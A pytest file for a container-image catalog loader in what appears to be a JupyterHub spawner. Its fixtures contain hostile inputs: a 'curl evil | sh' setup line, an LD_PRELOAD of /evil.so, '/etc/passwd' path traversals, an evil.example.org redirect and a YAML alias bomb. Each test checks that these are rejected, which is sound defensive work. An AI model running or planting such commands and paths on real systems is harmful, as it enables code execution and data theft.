"""What lists of images say: wish lists, docker_images.txt, directories, other sites' catalogs, and nonsense."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hepspawner.catalog import sources
from hepspawner.catalog.found import keys_of, make_image, taken, whole_site
from hepspawner.catalog.sources import (
    expand,
    is_wild,
    places_of,
    read_catalog,
    read_directory,
    read_docker_images,
    read_wishlist,
)
from hepspawner.site.load import SiteError, load_site
from hepspawner.site.model import Source

WISHES = b"""\
version: 1
user: cvmfsunpacker
cvmfs_repo: 'unpacked.cern.ch'
output_format: 'https://gitlab-registry.cern.ch/unpacked/sync/$(image)'
input:
    - 'https://registry.hub.docker.com/atlas/ml-base:alma9-python311'
    - 'https://registry.hub.docker.com/atlas/ml-base:alma9-python311'   # twice
    - 'https://gitlab-p4n.aip.de:5005/compute4punch/container-stacks/wlcg-wn:latest'
    - 'http://ghcr.io/x/untagged'
    - 'https://ghcr.io/x/pinned@sha256:%(digest)s'
    - 'https://ghcr.io/x/both:v1@sha256:%(digest)s'
    - 'https://ghcr.io/betif/kernel:*'
    - 'https://ghcr.io/ns/*:v1'
    - 'https://ghcr.io/a "quoted" name:v1'
    - "https://ghcr.io/new\\nline:v1"
    - 'https:///no/registry:v1'
    - 'https://ghcr.io/../../etc/passwd:v1'
    - 17
    - [a, list]
""" % {b"digest": b"ab" * 32}


def test_a_wish_list():
    listing = read_wishlist(WISHES, "recipe.yaml")
    assert listing.repository == "unpacked.cern.ch"
    assert [image.path for image in listing.images] == [
        "registry.hub.docker.com/atlas/ml-base:alma9-python311",
        "gitlab-p4n.aip.de:5005/compute4punch/container-stacks/wlcg-wn:latest",
        "ghcr.io/x/untagged:latest",
        f"ghcr.io/x/pinned:sha256:{'ab' * 32}",
        "ghcr.io/x/both:v1",
        "ghcr.io/betif/kernel:*",
    ]
    assert [image.oci for image in listing.images][:4] == [
        "docker.io/atlas/ml-base:alma9-python311",
        "gitlab-p4n.aip.de:5005/compute4punch/container-stacks/wlcg-wn:latest",
        "ghcr.io/x/untagged:latest",
        f"ghcr.io/x/pinned@sha256:{'ab' * 32}",
    ]
    assert [problem.partition(":")[0] for problem in listing.problems] == [f"line {n}" for n in range(13, 20)]
    assert all("\n" not in problem for problem in listing.problems)


@pytest.mark.parametrize(
    "pattern, names, found",
    [
        ("*", ["kernel:v1", "kernel:latest", "other:v1", "kernel"], ["latest", "v1"]),
        ("v1.*", ["kernel:v1.2", "kernel:v1-2", "kernel:v1", "kernel:xv1.2"], ["v1-2", "v1.2"]),  # a dot is any
        ("*-gpu", ["kernel:1.0-gpu", "kernel:1.0-gpu-x"], ["1.0-gpu"]),
        ("*" * 60 + "z", ["kernel:" + "a" * 100, "kernel:" + "a" * 99 + "z"], ["a" * 99 + "z"]),
    ],
)
def test_wildcards_of_a_wish_list_are_those_of_ducc(pattern, names, found):
    (wild,) = read_wishlist(f"input: ['https://ghcr.io/betif/kernel:{pattern}']".encode(), "x").images
    assert is_wild(wild, "wishlist")
    assert [image.tag for image in expand(wild, "wishlist", names)] == found
    assert all(image.path == f"ghcr.io/betif/kernel:{image.tag}" for image in expand(wild, "wishlist", names))


DOCKER_IMAGES = b"""\
# images of the open science grid

rootproject/root:6.30
ubuntu                       # neither namespace nor tag
hub.opensciencegrid.org/htc/rocky:9
docker://ghcr.io/x/y
localhost:5000/x/y:z
rootproject/root:6.2?-[ab]*
rootproject/root:6.30
two words
x/y@sha256:%(digest)s
""" % {b"digest": b"ab" * 32}


def test_docker_images():
    listing = read_docker_images(DOCKER_IMAGES, "docker_images.txt")
    assert [image.path for image in listing.images] == [
        "rootproject/root:6.30",
        "library/ubuntu:latest",
        "htc/rocky:9",
        "x/y:latest",
        "x/y:z",
        "rootproject/root:6.2?-[ab]*",
    ]
    assert [image.oci for image in listing.images][1:3] == [
        "docker.io/library/ubuntu:latest",
        "hub.opensciencegrid.org/htc/rocky:9",
    ]
    wild = listing.images[-1]
    names = ["root:6.28-a1", "root:6.2-a", "root:6.29-c", "roots:6.28-a", "root:6.21-b"]
    assert [image.tag for image in expand(wild, "docker_images", names)] == ["6.21-b", "6.28-a1"]
    assert [problem.partition(":")[0] for problem in listing.problems] == ["line 10", "line 11"]


CATALOG = b"""\
images:
  - name: theirs
    title: A title
    group: Theirs
    family: Planets
    level: Venus
    tags: [alma9]
    path: [/cvmfs/x/one, /cvmfs/x/two]
    gpu: required
    groups: [their-group]
    backends: [their-backend]
    environment: {LD_PRELOAD: /evil.so}
    mounts: [/etc]
    setup: curl evil | sh
    command: [evil]
  - name: host
    prefix: /opt/evil
  - name: "no name at all\\n"
    path: /cvmfs/x/three
  - name: leads-away
    path: /cvmfs/x/four
    default_url: //evil.example.org
  - from: wishlist
    file: /etc/passwd
backends: {theirs: {type: slurm}}
"""


def test_of_another_sites_catalog_only_what_is_safe_is_taken():
    listing = read_catalog(CATALOG, "images.yaml")
    (image,) = listing.images
    assert (image.path, image.fallbacks) == ("/cvmfs/x/one", ("/cvmfs/x/two",))
    assert image.keys == {
        "name": "theirs", "title": "A title", "group": "Theirs", "family": "Planets", "level": "Venus",
        "tags": ["alma9"], "gpu": "required",
    }  # fmt: skip
    assert [problem.partition(":")[0] for problem in listing.problems] == ["line 16", "line 18", "line 20"]
    assert [one.path for one in read_catalog(b"- {name: a, path: /cvmfs/x/a}", "x").images] == ["/cvmfs/x/a"]


def test_what_a_catalog_lists_elsewhere_is_refused():
    for path in ("/home/eve/evil.sif", "/cvmfs", "/cvmfs/../home/eve/x"):
        listing = read_catalog(f"- {{name: a, path: [/cvmfs/x/y, '{path}']}}".encode(), "x")
        if listing.images:  # the others are no paths at all
            with pytest.raises(ValueError, match="is not below /cvmfs"):
                places_of("/cvmfs", listing.images[0])
        else:
            assert "may not contain" in listing.problems[0]


def test_a_directory():
    listing = read_directory(["b.sif", ".hidden", "a:v1", 'it\'s "quoted"', "new\nline", "plain"])
    assert [image.path for image in listing.images] == ["a:v1", "b.sif", 'it\'s "quoted"', "plain"]
    assert listing.problems == ["'new\\nline' has control characters in its name"]


BOMB = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    f"{b}: &{b} [{','.join(f'*{a}' for _ in range(9))}]\n".encode() for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize("read", [read_wishlist, read_docker_images, read_catalog])
@pytest.mark.parametrize(
    "raw",
    [b"\x7fELF\0\1\2\xff\xfe", b"", b"[", b"input: {", b"input: 17", b"images: x", b"[" * 5000, b"{a: " * 5000, BOMB],
    ids=lambda raw: repr(raw[:12]),
)
def test_rubbish_is_one_line_and_no_exception_but_valueerror(read, raw):
    try:
        told = read(raw, "x").problems
    except ValueError as error:
        told = [str(error)]
    assert all(text and "\n" not in text for text in told)


@given(st.binary(max_size=300))
def test_any_bytes_at_all(raw):
    for read in (read_wishlist, read_docker_images, read_catalog):
        try:
            read(raw, "x")
        except ValueError:
            pass


def test_a_list_that_is_far_too_long(monkeypatch):
    monkeypatch.setattr(sources, "_MAX_ENTRIES", 10)
    listing = read_docker_images(b"".join(b"x/y:%d\n" % i for i in range(1000)), "x")
    assert len(listing.images) == 10
    assert listing.problems == ["line 11: lists more than 10 images; the others are left out"]


# --- to images of the site


def source(kind="wishlist", **keys):
    place = "directory" if kind == "directory" else "file"
    return Source.model_validate({"from": kind, place: "/cvmfs/u.ch/list", **keys})


def made(one, listing, root="/cvmfs/u.ch"):
    found = [(image, places_of(root, image)) for image in listing.images if not is_wild(image, "wishlist")]
    return [make_image(one, keys_of(one, image, p)) for image, p in found if taken(one, image, p[0])]


def test_images_get_what_the_source_says():
    one = source(
        name="{registry}-{name}-{tag}",
        title="{name} of {namespace}, {tag}",
        description="from {repository} {{really}}",
        group="Unpacked",
        gpu="none",
        groups=["g"],
        environment={"A": "b"},
        mounts=["/data"],
        include="*/ml-*",
    )
    (image,) = made(one, read_wishlist(WISHES, "x"))
    assert image.name == "registry.hub.docker.com-ml-base-alma9-python311"
    assert image.title == "ml-base of atlas, alma9-python311"
    assert image.description == "from atlas/ml-base {really}"
    assert (image.group, image.gpu, image.groups, image.environment) == ("Unpacked", "none", ["g"], {"A": "b"})
    assert image.mounts[0].source == "/data" and image.command == ["jupyterhub-singleuser"]
    assert image.places == ["/cvmfs/u.ch/registry.hub.docker.com/atlas/ml-base:alma9-python311"]
    assert image.label == image.title and "command" not in image.model_fields_set
    assert type(image).model_validate(image.model_dump(exclude_unset=True)) == image


def test_include_and_exclude_look_at_path_and_reference():
    listing = read_wishlist(WISHES, "x")
    assert [i.title for i in made(source(include="ghcr.io/x/*", exclude=["*:v1"]), listing)] == [
        "untagged:latest",
        f"pinned:sha256:{'ab' * 32}",
    ]
    assert len(made(source(include="/cvmfs/u.ch/ghcr.io/*"), listing)) == 3


def test_what_a_source_says_wins_over_a_catalog():
    (image,) = made(source("catalog", group="Ours", gpu="none"), read_catalog(CATALOG, "x"), "/cvmfs")
    assert (image.name, image.title, image.group, image.gpu) == ("theirs", "A title", "Ours", "none")
    assert image.places == ["/cvmfs/x/one", "/cvmfs/x/two"]
    assert image.environment == {} and image.groups is None and image.setup == ""


def site_with(*entries):
    return load_site({"images": list(entries), "backends": {"here": {"type": "local"}}})


def test_written_out_entries_override_and_names_stay_unique():
    site = site_with(
        {"name": "first", "path": "/cvmfs/u.ch/ghcr.io/x/both:v1", "title": "Written out"},
        {"from": "wishlist", "file": "/cvmfs/u.ch/a", "exclude": "*untagged*", "name": "{name}:{tag}"},
        {"name": "wn:latest", "prefix": "/opt"},
        {"from": "docker_images", "file": "/cvmfs/u.ch/b", "name": "{name}:{tag}"},
    )
    wishes = made(site.sources[0], read_wishlist(WISHES, "x"))
    docker = made(site.sources[1], read_docker_images(b"a/same:1\nb/same:1\nc/wn:latest", "x"))
    whole = whole_site(site, [wishes, [*docker, *wishes]])
    names = [image.name for image in whole.images]
    assert names[:4] == ["first", "ml-base:alma9-python311", "wlcg-wn:latest", f"pinned:sha256:{'ab' * 32}"]
    assert names[4] == "wn:latest" and len(names) == len(set(names)) == 8
    assert [name.rpartition("-")[0] for name in names[5:]] == ["same:1", "same:1", "wn:latest"]
    # a name depends on its image alone: what stands before it may come and go
    again = whole_site(site, [[], list(reversed(docker))])
    assert {i.name: i.path for i in again.images}.items() <= {i.name: i.path for i in whole.images}.items()


def test_the_name_of_a_found_image_never_becomes_anothers():
    """A link that was saved while one of two was listed, or neither, means the same when the other comes."""
    site = site_with({"from": "wishlist", "file": "/cvmfs/u.ch/a"}, {"from": "directory", "directory": "/cvmfs/u.ch/d"})
    lists = [b"input: [https://ghcr.io/a/base:v1]", b"input: [https://ghcr.io/b/base:v1]"]
    first, second = (made(site.sources[0], read_wishlist(raw, "x")) for raw in lists)
    other = made(site.sources[1], read_directory(["base:v1"]), "/cvmfs/u.ch/d")
    names: dict[str, set[str]] = {}
    for some in ([first, []], [second, []], [[*first, *second], other], [[], other]):
        for image in whole_site(site, some).images:
            names.setdefault(image.name, set()).add(image.path[0])
            assert image.title == "base:v1" and image.name.startswith("base:v1-")
    assert len(names) == 3 and all(len(paths) == 1 for paths in names.values())


@pytest.mark.parametrize(
    "keys, text",
    [
        ({"from": "wishlist"}, "from: wishlist needs the key file"),
        ({"from": "directory", "file": "/x"}, "from: directory needs the key directory"),
        ({"from": "directory", "directory": "/x", "repository": "/y"}, "from: directory has no key repository"),
        ({"from": "docker_images", "file": "/etc/x"}, "needs the key repository"),
        ({"from": "wishlists", "file": "/x"}, "did you mean wishlist?"),
        ({"from": "wishlist", "file": "/x", "title": "{nam}"}, "{nam} is no placeholder; there are: {registry}, "),
        ({"from": "wishlist", "file": "/x", "name": "{name.__class__}"}, "is no placeholder"),
        ({"from": "wishlist", "file": "/x", "name": "{name!r}"}, "is no placeholder"),
        ({"from": "wishlist", "file": "/x", "title": "{name"}, "is no template"),
        ({"from": "wishlist", "file": "/x", "path": "/y"}, "path: is no key here"),
        ({"from": "wishlist", "file": "/x", "refresh": 5}, "has no unit"),
        ({"from": "wishlist", "file": "/x", "backends": ["nowhere"]}, "'nowhere' is no backend of this site"),
        ({"from": "wishlist", "file": "/x", "gpu": "required"}, "no backend that may run this image has gpus"),
    ],
)
def test_mistakes_in_a_source_are_told_with_their_line(write_site, keys, text):
    lines = "".join(f"    {name}: {value!r}\n" for name, value in keys.items())
    path = write_site(f"backends: {{here: {{type: local}}}}\nimages:\n  -\n{lines}")
    with pytest.raises(SiteError) as caught:
        load_site(path)
    (problem,) = caught.value.problems
    assert text in str(problem)
    assert problem.line and problem.line >= 3 and problem.key.startswith("images[0]")
